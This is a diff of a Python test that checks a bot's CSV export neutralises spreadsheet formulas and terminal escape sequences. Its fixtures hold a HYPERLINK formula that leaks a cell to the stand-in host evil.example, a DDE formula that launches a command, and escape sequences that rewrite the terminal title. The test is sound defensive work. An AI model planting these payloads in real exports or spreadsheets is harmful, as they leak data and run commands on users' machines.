@@ -10,7 +10,7 @@ from pathlib import Path
 
 from sqlalchemy.ext.asyncio import AsyncSession
 
-from bot.db import repo_outreach
+from bot.db import repo_cases
 from tests.cli.test_cli import run
 
 CONTACT = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
@@ -20,16 +20,15 @@ NOTES = "asked about an MM \x1b[2J\x1b]0;pwned\x07 \x9b31mred"
 async def test_export_and_ask_never_pass_formulas_or_escapes_on(
     session: AsyncSession, db_url: str, tmp_path: Path
 ) -> None:
-    await repo_outreach.insert_outreach(
+    await repo_cases.insert_event(
         session,
         idempotency_key="text-safety-1",
         symbol="ZORB",
-        channel="email",
-        contact=CONTACT,
-        notes=NOTES,
-        followup_on=None,
-        logged_by="U0ANALYST",
-        logged_at=datetime(2026, 3, 2, 9, 0, tzinfo=UTC),
+        kind="contact",
+        at=datetime(2026, 3, 2, 9, 0, tzinfo=UTC),
+        actor="U0ANALYST",
+        actor_name="=cmd|' /C calc'!A0",
+        details={"channel": "email", "contact": CONTACT, "notes": NOTES, "followup_on": None},
     )
     await session.commit()
 
@@ -37,6 +36,7 @@ async def test_export_and_ask_never_pass_formulas_or_escapes_on(
     assert exported.returncode == 0, exported.stderr
     [row] = list(csv.DictReader(io.StringIO(exported.stdout)))
     assert row["contact"] == "'" + CONTACT
+    assert row["by"] == "'=cmd|' /C calc'!A0"  # a display name is text like any other
     assert row["notes"] == "asked about an MM \\x1b[2J\\x1b]0;pwned\\x07 \\x9b31mred"
     assert not any(ch in exported.stdout for ch in "\x1b\x07\x9b")
 
